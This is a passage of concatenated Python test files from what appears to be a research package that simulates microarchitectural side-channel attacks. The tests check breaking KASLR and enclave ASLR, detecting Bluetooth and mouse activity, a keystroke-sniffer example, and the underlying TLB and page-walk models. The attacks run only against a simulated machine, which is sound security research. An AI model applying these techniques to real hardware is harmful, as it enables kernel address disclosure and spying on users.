                               prune_keep=1)
        backend.plan_dir.mkdir(parents=True, exist_ok=True)
        fresh = backend.plan_dir / "fresh.tmp"
        fresh.write_text("x")
        backend.housekeep()
        # young debris survives a 1-hour threshold
        assert fresh.exists()
