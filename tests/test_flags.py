"""PTE flag semantics."""

from repro.mmu.flags import PageFlags, flags_from_prot


class TestPageFlags:
    def test_present(self):
        assert PageFlags.PRESENT.present
        assert not PageFlags.NONE.present

    def test_writable(self):
        assert (PageFlags.PRESENT | PageFlags.WRITABLE).writable
        assert not PageFlags.PRESENT.writable

    def test_user(self):
        assert (PageFlags.PRESENT | PageFlags.USER).user
        assert not PageFlags.PRESENT.user

    def test_nx(self):
        assert PageFlags.PRESENT.executable
        assert not (PageFlags.PRESENT | PageFlags.NX).executable

    def test_dirty_accessed(self):
        flags = PageFlags.PRESENT | PageFlags.DIRTY | PageFlags.ACCESSED
        assert flags.dirty
        assert flags.accessed
        assert not PageFlags.PRESENT.dirty

    def test_describe_rwx(self):
        rx = PageFlags.PRESENT | PageFlags.USER
        assert rx.describe() == "r-x"
        rw = PageFlags.PRESENT | PageFlags.WRITABLE | PageFlags.NX
        assert rw.describe() == "rw-"
        assert PageFlags.NONE.describe() == "---"
        ro = PageFlags.PRESENT | PageFlags.NX
        assert ro.describe() == "r--"


class TestFlagsFromProt:
    def test_prot_none_is_nonpresent(self):
        assert flags_from_prot(read=False) == PageFlags.NONE

    def test_read_only(self):
        flags = flags_from_prot(read=True)
        assert flags.present and not flags.writable and not flags.executable
        assert flags.user

    def test_read_write(self):
        flags = flags_from_prot(read=True, write=True)
        assert flags.writable and not flags.executable

    def test_read_exec(self):
        flags = flags_from_prot(read=True, execute=True)
        assert flags.executable and not flags.writable

    def test_kernel_page(self):
        flags = flags_from_prot(read=True, user=False)
        assert flags.present and not flags.user

    def test_fresh_mapping_is_clean(self):
        # the attack's calibration page must start with D=0
        assert not flags_from_prot(read=True, write=True).dirty
