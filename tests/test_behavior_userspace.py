"""Behavior inference (Fig. 6) and user-space / SGX breaks (Fig. 7)."""

import pytest

from repro.attacks.behavior import BehaviorSpy, detection_metrics
from repro.attacks.sgx_break import break_aslr_from_enclave
from repro.attacks.userspace import (
    _observable_signature,
    find_user_code_base,
    identify_libraries,
    scan_rw_pages,
)
from repro.errors import AttackError
from repro.machine import Machine
from repro.os.linux.libraries import LIBRARY_CATALOG
from repro.workloads import (
    BluetoothStreaming,
    CompositeWorkload,
    IdleWorkload,
    MouseActivity,
)


@pytest.fixture(scope="module")
def spy_machine():
    return Machine.linux(cpu="i7-1065G7", seed=50)


class TestBehaviorSpy:
    def test_bluetooth_streaming_detected(self, spy_machine):
        machine = spy_machine
        base = machine.kernel.module_map["bluetooth"][0]
        spy = BehaviorSpy(machine, base)
        workload = BluetoothStreaming(start_s=5, end_s=15)
        samples = spy.run(workload, duration_s=25)
        accuracy, precision, recall = detection_metrics(
            samples, workload.is_active
        )
        assert accuracy >= 0.9
        assert recall >= 0.9

    def test_idle_produces_no_detections(self, spy_machine):
        machine = spy_machine
        base = machine.kernel.module_map["psmouse"][0]
        spy = BehaviorSpy(machine, base)
        samples = spy.run(IdleWorkload(), duration_s=12)
        assert not any(s.active for s in samples)

    def test_mouse_bursts_shape(self, spy_machine):
        machine = spy_machine
        base = machine.kernel.module_map["psmouse"][0]
        spy = BehaviorSpy(machine, base)
        workload = MouseActivity(bursts=((3, 6), (10, 12)))
        samples = spy.run(workload, duration_s=15)
        active_times = {s.t_seconds for s in samples if s.active}
        assert 4.0 in active_times
        assert 8.0 not in active_times

    def test_active_samples_faster_than_idle(self, spy_machine):
        machine = spy_machine
        base = machine.kernel.module_map["bluetooth"][0]
        spy = BehaviorSpy(machine, base)
        workload = BluetoothStreaming(start_s=0, end_s=5)
        samples = spy.run(workload, duration_s=10)
        active = [s.mean_cycles for s in samples if s.t_seconds < 5]
        idle = [s.mean_cycles for s in samples if s.t_seconds >= 5]
        assert max(active) < min(idle)

    def test_composite_workload(self, spy_machine):
        machine = spy_machine
        workload = CompositeWorkload(
            [BluetoothStreaming(0, 3), MouseActivity(bursts=((5, 7),))]
        )
        assert workload.is_active(1)
        assert workload.is_active(6)
        assert not workload.is_active(4)

    def test_spy_clock_advances_by_duration(self, spy_machine):
        machine = spy_machine
        base = machine.kernel.module_map["psmouse"][0]
        spy = BehaviorSpy(machine, base)
        start = machine.clock.seconds
        spy.run(IdleWorkload(), duration_s=5)
        assert machine.clock.seconds - start >= 5.0


class TestWorkloads:
    def test_bluetooth_window(self):
        workload = BluetoothStreaming(20, 60)
        assert workload.is_active(30)
        assert not workload.is_active(61)
        assert workload.module == "bluetooth"

    def test_interval_overlap_semantics(self):
        workload = BluetoothStreaming(20, 60)
        assert workload.is_active(19.5)        # [19.5, 20.5) overlaps
        assert not workload.is_active(60.0)

    def test_mouse_module(self):
        assert MouseActivity().module == "psmouse"


class TestUserScan:
    def test_finds_code_base(self):
        machine = Machine.linux(cpu="i7-1065G7", seed=51)
        result = find_user_code_base(machine)
        assert result.base == machine.process.text_base

    def test_store_pass_flags_written_data_pages(self):
        """The second (store) pass finds the executable's rw .data."""
        machine = Machine.linux(cpu="i7-1065G7", seed=52)
        from repro.mmu.address import PAGE_SIZE

        result = scan_rw_pages(machine)
        data_page = machine.process.text_base + 7 * PAGE_SIZE
        assert any(a <= data_page <= b for a, b in result.mapped_runs)

    def test_store_pass_skips_readonly_text(self):
        machine = Machine.linux(cpu="i7-1065G7", seed=52)
        result = scan_rw_pages(machine)
        text = machine.process.text_base
        assert not any(a <= text <= b for a, b in result.mapped_runs)

    def test_store_scan_faster_than_load_scan(self):
        """Section IV-F: 44 s (store pass) vs 51 s (load pass)."""
        machine = Machine.linux(cpu="i7-1065G7", seed=53)
        load = find_user_code_base(machine)
        store = scan_rw_pages(machine)
        assert store.probing_seconds < load.probing_seconds

    def test_extrapolated_runtime_in_paper_ballpark(self):
        machine = Machine.linux(cpu="i7-1065G7", seed=54)
        result = find_user_code_base(machine)
        assert 20 < result.probing_seconds < 120  # paper: 51 s

    def test_full_probe_count_is_28_bits(self):
        machine = Machine.linux(cpu="i7-1065G7", seed=55)
        result = find_user_code_base(machine, rounds=2)
        assert result.full_probe_count == (1 << 28) * 2


class TestLibraryIdentification:
    @pytest.fixture(scope="class")
    def identification(self):
        machine = Machine.linux(cpu="i7-1065G7", seed=56)
        return machine, identify_libraries(machine)

    def test_all_default_libraries_found(self, identification):
        machine, result = identification
        for name, base in machine.process.library_bases.items():
            assert result.base_of(name) == base, name

    def test_permission_map_matches_ground_truth(self, identification):
        machine, result = identification
        process = machine.process
        mismatches = 0
        for va, detected in result.permission_map.items():
            truth = process.true_permissions(va)
            expected = {"r--": "r", "r-x": "r", "rw-": "rw", "---": "---"}[truth]
            if detected != expected:
                mismatches += 1
        assert mismatches == 0

    def test_hidden_pages_detected(self, identification):
        """Figure 7: the probe finds pages maps does not list."""
        machine, result = identification
        hidden = [
            r.start for r in machine.process.all_regions()
            if r.hidden and r.start >= result.window[0]
        ]
        for va in hidden:
            assert va in result.extra_pages

    def test_signature_collapse_rules(self):
        libc_sig = _observable_signature(LIBRARY_CATALOG["libc.so.6"])
        assert libc_sig == ((("r", 437),), (("r", 4), ("rw", 2)))


class TestSgxBreak:
    def test_requires_enclave(self):
        machine = Machine.linux(cpu="i7-1065G7", seed=57)
        with pytest.raises(AttackError):
            break_aslr_from_enclave(machine)

    def test_sgx1_refused(self):
        machine = Machine.linux(cpu="i7-1065G7", seed=58)
        machine.create_enclave(sgx2=False)
        with pytest.raises(Exception):
            break_aslr_from_enclave(machine)

    def test_full_break(self):
        machine = Machine.linux(cpu="i7-1065G7", seed=59)
        machine.create_enclave()
        result = break_aslr_from_enclave(machine)
        assert result.code_base == machine.process.text_base
        assert result.store_seconds < result.load_seconds
        assert result.rw_pages
        assert result.libraries is not None
        assert result.libraries.base_of("libc.so.6") == \
            machine.process.library_bases["libc.so.6"]
