"""64-bit element masked ops, and smoke tests over every example script."""

import pathlib
import runpy
import sys

import pytest

from repro.cpu.avx import make_mask
from repro.errors import PageFault
from repro.machine import Machine

EXAMPLES_DIR = pathlib.Path(__file__).parent.parent / "examples"


class TestQuadwordElements:
    """VPMASKMOVQ: 4 x 64-bit lanes instead of 8 x 32-bit."""

    @pytest.fixture
    def machine(self):
        return Machine.linux(seed=990)

    def test_zero_mask_q_suppresses_faults(self, machine):
        mask = make_mask(element_size=8)
        result = machine.core.masked_load(
            machine.playground.unmapped, mask, element_size=8
        )
        assert result.assist

    def test_active_q_lane_faults(self, machine):
        mask = make_mask([0], element_size=8)
        with pytest.raises(PageFault):
            machine.core.masked_load(
                machine.playground.unmapped, mask, element_size=8
            )

    def test_q_data_roundtrip(self, machine):
        core = machine.core
        page = machine.playground.user_rw
        data = bytes(range(32))
        core.masked_store(page, make_mask([1], element_size=8),
                          element_size=8, data=data)
        result = core.masked_load(page, make_mask([1], element_size=8),
                                  element_size=8)
        assert result.value[8:16] == data[8:16]
        assert result.value[:8] == b"\x00" * 8

    def test_q_timing_identical_to_d(self, machine):
        """The channel is element-size independent (same translation)."""
        core = machine.core
        base = machine.kernel.base
        core.masked_load(base)
        t_d = core.masked_load(base, make_mask(element_size=4)).cycles
        t_q = core.masked_load(base, make_mask(element_size=8),
                               element_size=8).cycles
        assert t_d == t_q

    def test_wrong_mask_width_rejected(self, machine):
        with pytest.raises(ValueError):
            machine.core.masked_load(
                machine.playground.user_rw, make_mask(element_size=4),
                element_size=8,
            )


def _run_example(name, capsys):
    path = EXAMPLES_DIR / name
    assert path.exists(), path
    saved_argv = sys.argv
    sys.argv = [str(path)]
    try:
        runpy.run_path(str(path), run_name="__main__")
    finally:
        sys.argv = saved_argv
    return capsys.readouterr().out


class TestExamples:
    def test_quickstart(self, capsys):
        out = _run_example("quickstart.py", capsys)
        assert "correct        : True" in out
        assert "identified     : 19" in out

    def test_spy_on_user_behavior(self, capsys):
        out = _run_example("spy_on_user_behavior.py", capsys)
        assert "bluetooth" in out and "psmouse" in out
        assert "accuracy" in out

    def test_enclave_derandomization(self, capsys):
        out = _run_example("enclave_derandomization.py", capsys)
        assert "recovered" in out
        assert "(correct)" in out

    def test_cloud_audit(self, capsys):
        out = _run_example("cloud_audit.py", capsys)
        for provider in ("Amazon EC2", "Google GCE", "Microsoft Azure"):
            assert provider in out

    def test_poc_assembly(self, capsys):
        out = _run_example("poc_assembly.py", capsys)
        assert "correct                    : True" in out

    def test_keystroke_sniffer(self, capsys):
        out = _run_example("keystroke_sniffer.py", capsys)
        assert "recall            : 100%" in out

    def test_defense_matrix(self, capsys):
        out = _run_example("defense_matrix.py", capsys)
        assert "FGKASLR bypassed" in out
        assert "6/4104" in out
