"""The command-line interface."""

import pytest

from repro.cli import build_parser, main


class TestParser:
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_all_commands_registered(self):
        parser = build_parser()
        for command in ("cpus", "kaslr", "modules", "kpti", "spy",
                        "windows", "cloud", "sgx", "poc"):
            args = parser.parse_args(
                [command, "ec2"] if command == "cloud" else [command]
            )
            assert callable(args.func)

    def test_cloud_provider_validated(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["cloud", "ibm"])


class TestCommands:
    def test_cpus(self, capsys):
        assert main(["cpus"]) == 0
        out = capsys.readouterr().out
        assert "i5-12400F" in out and "ryzen5-5600X" in out

    def test_kaslr_correct_exit_code(self, capsys):
        assert main(["kaslr", "--seed", "3"]) == 0
        out = capsys.readouterr().out
        assert "CORRECT" in out

    def test_kaslr_amd_path(self, capsys):
        assert main(["kaslr", "--cpu", "ryzen5-5600X", "--seed", "3"]) == 0
        assert "amd-p3" in capsys.readouterr().out

    def test_kpti(self, capsys):
        assert main(["kpti", "--seed", "4"]) == 0
        assert "trampoline" in capsys.readouterr().out

    def test_spy(self, capsys):
        code = main(["spy", "--app", "file-transfer", "--seed", "5",
                     "--intervals", "16"])
        assert code == 0
        assert "CORRECT" in capsys.readouterr().out

    def test_windows(self, capsys):
        assert main(["windows", "--seed", "6"]) == 0
        assert "region-scan" in capsys.readouterr().out

    def test_cloud(self, capsys):
        assert main(["cloud", "gce", "--seed", "7"]) == 0
        assert "Google GCE" in capsys.readouterr().out

    def test_poc(self, capsys):
        assert main(["poc", "--seed", "8"]) == 0
        assert "assembly scan loop" in capsys.readouterr().out

    def test_unknown_cpu_clean_error(self, capsys):
        assert main(["kaslr", "--cpu", "z80"]) == 2
        assert "error" in capsys.readouterr().err


class TestStructuredFailures:
    def test_config_error_is_one_json_line_on_stderr(self, capsys):
        import json

        assert main(["kaslr", "--cpu", "z80"]) == 2
        err = capsys.readouterr().err
        record = json.loads(err.strip())
        assert record["error"] == "ConfigError"
        assert "z80" in record["message"]
        assert "Traceback" not in err

    def test_attack_error_is_structured_too(self, capsys, tmp_path):
        import json

        scenario = tmp_path / "bad.json"
        scenario.write_text(json.dumps({
            "name": "bad",
            "machine": {"os": "linux", "seed": 0},
            "attack": {"kind": "supervised", "attack": "rowhammer"},
        }))
        assert main(["scenario", str(scenario)]) == 2
        record = json.loads(capsys.readouterr().err.strip())
        assert record["error"] == "AttackError"
        assert "rowhammer" in record["message"]


class TestChaosCommand:
    def test_list_profiles(self, capsys):
        assert main(["chaos", "--list"]) == 0
        out = capsys.readouterr().out
        for name in ("quiet", "default", "hostile", "rerandomizing"):
            assert name in out

    def test_supervised_kaslr_under_default_profile(self, capsys):
        assert main(["chaos", "kaslr", "--seed", "3"]) == 0
        out = capsys.readouterr().out
        assert "CORRECT" in out
        assert "disturbances" in out

    def test_json_verdict_output(self, capsys):
        import json

        assert main(["chaos", "kaslr", "--seed", "3", "--json"]) == 0
        record = json.loads(capsys.readouterr().out.strip())
        assert record["status"] == "found"
        assert record["attack"] == "kaslr"

    def test_chaos_profile_flag_on_attack_commands(self, capsys):
        assert main(["kaslr", "--chaos-profile", "default",
                     "--seed", "3"]) == 0
        out = capsys.readouterr().out
        assert "CORRECT" in out and "retries" in out

    def test_unknown_profile_is_a_structured_error(self, capsys):
        import json

        assert main(["chaos", "kaslr", "--profile", "nope"]) == 2
        record = json.loads(capsys.readouterr().err.strip())
        assert record["error"] == "ConfigError"


class TestCampaignFsckCLI:
    """`repro campaign fsck --rebuild`: golden salvage report + errors."""

    def _run_small_campaign(self, tmp_path):
        import json

        scenarios = tmp_path / "scenarios"
        scenarios.mkdir()
        for index in range(2):
            (scenarios / "u{}.json".format(index)).write_text(json.dumps({
                "name": "u{}".format(index),
                "machine": {"os": "linux", "cpu": "i5-12400F",
                            "seed": index},
                "attack": {"kind": "kaslr", "params": {"trials": 2}},
                "expect": {"correct": True},
            }))
        journal = tmp_path / "c.jsonl"
        assert main(["campaign", "run", str(scenarios),
                     "--journal", str(journal), "--jobs", "1"]) == 0
        return journal

    def _corrupt_line(self, journal, predicate):
        """Break the checksum of the first line matching ``predicate``."""
        import json

        lines = journal.read_bytes().splitlines(keepends=True)
        for number, line in enumerate(lines, start=1):
            record = json.loads(line)
            if predicate(record):
                lines[number - 1] = line.replace(b'"type"', b'"tyqe"', 1)
                journal.write_bytes(b"".join(lines))
                return number
        raise AssertionError("no line matched")

    def test_rebuild_emits_golden_salvage_report(self, tmp_path, capsys):
        import json

        journal = self._run_small_campaign(tmp_path)
        capsys.readouterr()
        damaged_line = self._corrupt_line(
            journal,
            lambda r: r.get("type") == "unit-finish"
            and r.get("unit") == "u1",
        )

        assert main(["campaign", "fsck", str(journal), "--rebuild"]) == 1
        out = capsys.readouterr().out
        expected_lines = [
            "quarantined  {}  (5 records, 1 done / 0 skipped / "
            "1 incomplete)".format(journal),
            "  line {}: checksum mismatch".format(damaged_line),
            "  quarantined to {}.corrupt".format(journal),
            "  salvage report: {}.salvage.json".format(journal),
            "  rebuilt {} from 5 intact records".format(journal),
        ]
        assert out.splitlines() == expected_lines

        salvage = json.loads(
            (tmp_path / "c.jsonl.salvage.json").read_text()
        )
        assert salvage == {
            "schema": "repro-campaign-salvage/v1",
            "journal": str(journal),
            "records": 5,
            "damage": [{"line": damaged_line,
                        "reason": "checksum mismatch"}],
            "status": "quarantined",
            "units": {"done": 1, "skipped": 0, "incomplete": 1},
            "finished": True,
            "quarantined_to": str(journal) + ".corrupt",
            "rebuilt": str(journal),
        }
        # the rebuilt journal resumes cleanly, minus only the damage
        capsys.readouterr()
        assert main(["campaign", "resume", str(journal),
                     "--jobs", "1"]) == 0

    def test_clean_journal_reports_ok(self, tmp_path, capsys):
        journal = self._run_small_campaign(tmp_path)
        capsys.readouterr()
        assert main(["campaign", "fsck", str(journal)]) == 0
        out = capsys.readouterr().out
        assert out.startswith("ok")
        assert "6 records" in out and "2 done" in out

    def test_unreadable_journal_is_a_structured_error(self, tmp_path,
                                                      capsys):
        import json

        unreadable = tmp_path / "dir-as-journal.jsonl"
        unreadable.mkdir()
        assert main(["campaign", "fsck", str(unreadable)]) == 2
        record = json.loads(capsys.readouterr().err.strip())
        assert record["error"] == "CampaignError"
        assert "cannot read journal" in record["message"]
