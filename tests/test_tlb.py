"""Set-associative TLB behaviour."""

import pytest

from repro.mmu.address import PAGE_SIZE, PAGE_SIZE_1G, PAGE_SIZE_2M
from repro.mmu.flags import PageFlags
from repro.mmu.pagetable import Translation
from repro.mmu.tlb import TLB, TLBEntry, TwoLevelTLB

FLAGS = PageFlags.PRESENT | PageFlags.USER


def _translation(va, page_size=PAGE_SIZE, pfn=0x123):
    return Translation(va, pfn, FLAGS, page_size,
                       {PAGE_SIZE: 3, PAGE_SIZE_2M: 2, PAGE_SIZE_1G: 1}[page_size])


class TestTLBArray:
    def test_miss_then_hit(self):
        tlb = TLB(entries=16, ways=4)
        assert tlb.lookup(5, PAGE_SIZE) is None
        tlb.fill(TLBEntry(5, 0x1, FLAGS, PAGE_SIZE))
        assert tlb.lookup(5, PAGE_SIZE) is not None
        assert tlb.hits == 1 and tlb.misses == 1

    def test_geometry_validation(self):
        with pytest.raises(ValueError):
            TLB(entries=10, ways=4)

    def test_set_conflict_eviction(self):
        tlb = TLB(entries=8, ways=2)  # 4 sets
        # three VPNs mapping to set 0: 0, 4, 8
        for vpn in (0, 4, 8):
            tlb.fill(TLBEntry(vpn, vpn, FLAGS, PAGE_SIZE))
        assert tlb.lookup(0, PAGE_SIZE) is None      # LRU evicted
        assert tlb.lookup(8, PAGE_SIZE) is not None

    def test_lru_refresh(self):
        tlb = TLB(entries=8, ways=2)
        tlb.fill(TLBEntry(0, 1, FLAGS, PAGE_SIZE))
        tlb.fill(TLBEntry(4, 2, FLAGS, PAGE_SIZE))
        tlb.lookup(0, PAGE_SIZE)                      # refresh vpn 0
        tlb.fill(TLBEntry(8, 3, FLAGS, PAGE_SIZE))    # evicts vpn 4
        assert tlb.lookup(0, PAGE_SIZE) is not None
        assert tlb.lookup(4, PAGE_SIZE) is None

    def test_refill_replaces_in_place(self):
        tlb = TLB(entries=8, ways=2)
        tlb.fill(TLBEntry(0, 1, FLAGS, PAGE_SIZE))
        tlb.fill(TLBEntry(0, 99, FLAGS, PAGE_SIZE))
        assert tlb.occupancy() == 1
        assert tlb.lookup(0, PAGE_SIZE).pfn == 99

    def test_invalidate(self):
        tlb = TLB(entries=8, ways=2)
        tlb.fill(TLBEntry(0, 1, FLAGS, PAGE_SIZE))
        tlb.invalidate(0, PAGE_SIZE)
        assert tlb.lookup(0, PAGE_SIZE) is None

    def test_flush_keep_global(self):
        tlb = TLB(entries=8, ways=2)
        tlb.fill(TLBEntry(0, 1, FLAGS, PAGE_SIZE, is_global=True))
        tlb.fill(TLBEntry(1, 2, FLAGS, PAGE_SIZE))
        tlb.flush(keep_global=True)
        assert tlb.lookup(0, PAGE_SIZE) is not None
        assert tlb.lookup(1, PAGE_SIZE) is None

    def test_conflicting_vpns(self):
        tlb = TLB(entries=64, ways=4)  # 16 sets
        conflicts = list(tlb.conflicting_vpns(5, 3))
        assert conflicts == [21, 37, 53]
        assert all(c % 16 == 5 % 16 for c in conflicts)


class TestTwoLevelTLB:
    def test_fill_and_l1_hit(self):
        tlb = TwoLevelTLB()
        tlb.fill(_translation(0x1000))
        entry, level = tlb.lookup(0x1000)
        assert entry is not None and level == "L1"

    def test_huge_page_lookup_by_contained_address(self):
        tlb = TwoLevelTLB()
        tlb.fill(_translation(PAGE_SIZE_2M * 7, PAGE_SIZE_2M))
        entry, level = tlb.lookup(PAGE_SIZE_2M * 7 + 0x3000)
        assert entry is not None
        assert entry.page_size == PAGE_SIZE_2M

    def test_stlb_promotion(self):
        tlb = TwoLevelTLB(l1_4k=(4, 4))
        # overflow the tiny L1 so an early entry only survives in the sTLB
        for i in range(8):
            tlb.fill(_translation(i * PAGE_SIZE))
        entry, level = tlb.lookup(0)
        assert entry is not None and level == "L2"
        # promoted back: next lookup is L1
        entry, level = tlb.lookup(0)
        assert level == "L1"

    def test_1g_entries_skip_stlb(self):
        tlb = TwoLevelTLB()
        tlb.fill(_translation(PAGE_SIZE_1G, PAGE_SIZE_1G))
        assert tlb.stlb.occupancy() == 0
        entry, __ = tlb.lookup(PAGE_SIZE_1G + 123)
        assert entry is not None

    def test_invalidate_all_sizes(self):
        tlb = TwoLevelTLB()
        tlb.fill(_translation(PAGE_SIZE_2M * 3, PAGE_SIZE_2M))
        tlb.invalidate(PAGE_SIZE_2M * 3 + 0x1000)
        entry, __ = tlb.lookup(PAGE_SIZE_2M * 3 + 0x1000)
        assert entry is None

    def test_flush(self):
        tlb = TwoLevelTLB()
        tlb.fill(_translation(0x1000))
        tlb.flush()
        assert tlb.lookup(0x1000) == (None, None)

    def test_holds_is_side_effect_free(self):
        tlb = TwoLevelTLB()
        tlb.fill(_translation(0x1000))
        hits_before = tlb.l1[PAGE_SIZE].hits
        assert tlb.holds(0x1000)
        assert not tlb.holds(0x2000)
        assert tlb.l1[PAGE_SIZE].hits == hits_before

    def test_nonpresent_never_cached_by_construction(self):
        # TwoLevelTLB.fill takes a Translation, which only exists for
        # present pages; the walker never fills on a failed walk.
        tlb = TwoLevelTLB()
        assert tlb.occupancy()["l1_4k"] == 0
