"""Timed page-table walks: PSC short-circuits, hot/cold lines, depth cost."""

from repro.mmu.address import PAGE_SIZE, PAGE_SIZE_2M
from repro.mmu.flags import PageFlags
from repro.mmu.pagetable import PageTable
from repro.mmu.psc import PagingLineCache, PagingStructureCache
from repro.mmu.walker import PageTableWalker, WalkTiming

USER_RW = PageFlags.PRESENT | PageFlags.USER | PageFlags.WRITABLE
KERNEL = PageFlags.PRESENT

TIMING = WalkTiming(base=10, access_hot=8, access_cold=56, level_step=2)


def _walker(**kwargs):
    return PageTableWalker(timing=TIMING, **kwargs)


class TestWalkCost:
    def test_cold_4k_walk_cost(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        walk = _walker().walk(table, 0x1000)
        # 4 cold accesses + base + 4 level steps
        assert walk.cycles == 10 + 4 * 56 + 4 * 2
        assert walk.accesses == 4
        assert walk.cold_accesses == 4
        assert walk.present

    def test_second_walk_hot_lines(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        walker = _walker(psc=PagingStructureCache(pde_entries=0))
        walker.psc.flush()
        walker.use_psc = False
        walker.walk(table, 0x1000)
        walk = walker.walk(table, 0x1000)
        assert walk.cold_accesses == 0
        assert walk.cycles == 10 + 4 * 8 + 4 * 2

    def test_psc_short_circuits_to_pt(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        walker = _walker()
        walker.walk(table, 0x1000)   # fills PML4E/PDPTE/PDE caches
        walk = walker.walk(table, 0x1000)
        assert walk.start_level == 3
        assert walk.accesses == 1    # only the PT entry is fetched

    def test_2m_walk_has_three_accesses(self):
        table = PageTable()
        table.map(PAGE_SIZE_2M * 4, 0x2, KERNEL, PAGE_SIZE_2M)
        walk = _walker().walk(table, PAGE_SIZE_2M * 4)
        assert walk.accesses == 3
        assert walk.terminal_level == 2
        assert walk.cycles == 10 + 3 * 56 + 3 * 2

    def test_depth_step_makes_pt_slower_than_pd_when_hot(self):
        """P3's key asymmetry: 4 KiB translations out-cost huge pages."""
        table = PageTable()
        table.map(PAGE_SIZE_2M * 4, 0x2, KERNEL, PAGE_SIZE_2M)
        table.map(PAGE_SIZE_2M * 8, 0x3, USER_RW)  # 4 KiB page
        walker = _walker()
        # warm both paths fully
        walker.walk(table, PAGE_SIZE_2M * 4)
        walker.walk(table, PAGE_SIZE_2M * 8)
        pd = walker.walk(table, PAGE_SIZE_2M * 4)
        pt = walker.walk(table, PAGE_SIZE_2M * 8)
        assert pt.cycles > pd.cycles

    def test_nonpresent_walk_not_cached_in_psc(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        walker = _walker()
        walker.walk(table, 0x4000_0000_0000)   # empty PML4 slot
        assert walker.psc.occupancy() == {0: 0, 1: 0, 2: 0}

    def test_nonpresent_walk_caches_present_upper_levels(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        walker = _walker()
        walker.walk(table, 0x3000)   # same PT, entry missing (level 3)
        # PML4E/PDPTE/PDE on the way down were present -> cached
        assert walker.psc.occupancy() == {0: 1, 1: 1, 2: 1}

    def test_walk_counter(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        walker = _walker()
        walker.walk(table, 0x1000)
        walker.walk(table, 0x2000)
        assert walker.completed_walks == 2


class TestPerfCounterConsistency:
    """Walk counting lives in the walker, so the PMU event can't drift."""

    def test_walker_counts_into_perf_block(self):
        from repro.cpu.perfcounters import PerfCounters

        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        perf = PerfCounters()
        walker = _walker(perf=perf)
        first = walker.walk(table, 0x1000)
        second = walker.walk(table, 0x2000)
        assert perf.read("DTLB_LOAD_MISSES.WALK_COMPLETED") == 2
        assert perf.read("DTLB_LOAD_MISSES.WALK_DURATION") == (
            first.cycles + second.cycles
        )
        assert walker.completed_walks == 2

    def test_pre_resolved_lookup_walks_identically(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        plain = _walker().walk(table, 0x1000)
        resolved = table.lookup(0x1000)
        hinted = _walker().walk(table, 0x1000, lookup=resolved)
        assert hinted.cycles == plain.cycles
        assert hinted.accesses == plain.accesses
        assert hinted.terminal_level == plain.terminal_level

    def test_event_equals_attribute_across_all_core_paths(self):
        """AVX ops, kernel touches, and prefetch probes all walk through
        the same counter: the PMU event always equals completed_walks."""
        from repro.machine import Machine

        machine = Machine.linux(seed=5)
        core = machine.core
        base = machine.kernel.base
        core.masked_load(base)
        core.masked_load(base - (1 << 21))
        core.kernel_touch([base, base + (1 << 21)])
        core.timed_prefetch(machine.playground.user_rw)
        assert (
            core.perf.read("DTLB_LOAD_MISSES.WALK_COMPLETED")
            == core.walker.completed_walks
        )


class TestInvalidation:
    def test_invalidate_address_clears_psc(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        walker = _walker()
        walker.walk(table, 0x1000)
        walker.invalidate_address(0x1000)
        walk = walker.walk(table, 0x1000)
        assert walk.start_level == 0

    def test_flush_clears_lines_too(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        walker = _walker()
        walker.walk(table, 0x1000)
        walker.flush()
        walk = walker.walk(table, 0x1000)
        assert walk.cold_accesses == walk.accesses == 4

    def test_use_psc_false_disables_short_circuit(self):
        table = PageTable()
        table.map(0x1000, 0x1, USER_RW)
        walker = _walker(use_psc=False)
        walker.walk(table, 0x1000)
        walk = walker.walk(table, 0x1000)
        assert walk.start_level == 0
        assert walk.accesses == 4
