"""Property-based tests (hypothesis) for the MMU substrate invariants."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.mmu.address import (
    PAGE_SIZE,
    PAGE_SIZE_2M,
    is_canonical,
    page_align_down,
    page_align_up,
    split_indices,
)
from repro.mmu.flags import PageFlags, flags_from_prot
from repro.mmu.pagetable import PageTable
from repro.mmu.psc import PagingStructureCache
from repro.mmu.tlb import TLB, TLBEntry

#: canonical user-half addresses
user_vas = st.integers(min_value=0, max_value=0x0000_7FFF_FFFF_FFFF)
#: canonical kernel-half addresses
kernel_vas = st.integers(
    min_value=0xFFFF_8000_0000_0000, max_value=0xFFFF_FFFF_FFFF_FFFF
)
canonical_vas = st.one_of(user_vas, kernel_vas)
page_bases = user_vas.map(lambda va: page_align_down(va))


class TestAddressProperties:
    @given(canonical_vas)
    def test_canonical_addresses_accepted(self, va):
        assert is_canonical(va)

    @given(canonical_vas)
    def test_split_indices_in_range(self, va):
        indices = split_indices(va)
        assert len(indices) == 4
        assert all(0 <= i <= 511 for i in indices)

    @given(canonical_vas)
    def test_indices_reconstruct_address(self, va):
        """The four indices plus the page offset fully determine the VA."""
        pml4, pdpt, pd, pt = split_indices(va)
        rebuilt = (pml4 << 39) | (pdpt << 30) | (pd << 21) | (pt << 12)
        rebuilt |= va & 0xFFF
        if pml4 >= 256:  # kernel half: sign extension
            rebuilt |= 0xFFFF_0000_0000_0000
        assert rebuilt == va

    @given(user_vas)
    def test_align_sandwich(self, va):
        down = page_align_down(va)
        up = page_align_up(va)
        assert down <= va <= up
        assert up - down in (0, PAGE_SIZE)
        assert down % PAGE_SIZE == 0 and up % PAGE_SIZE == 0


class TestPageTableProperties:
    @given(st.lists(page_bases, min_size=1, max_size=20, unique=True))
    @settings(max_examples=50, deadline=None)
    def test_map_lookup_roundtrip(self, bases):
        table = PageTable()
        flags = flags_from_prot(read=True, write=True)
        for pfn, base in enumerate(bases, start=1):
            table.map(base, pfn, flags)
        for pfn, base in enumerate(bases, start=1):
            translation = table.lookup(base).translation
            assert translation is not None
            assert translation.pfn == pfn

    @given(st.lists(page_bases, min_size=1, max_size=20, unique=True),
           st.data())
    @settings(max_examples=50, deadline=None)
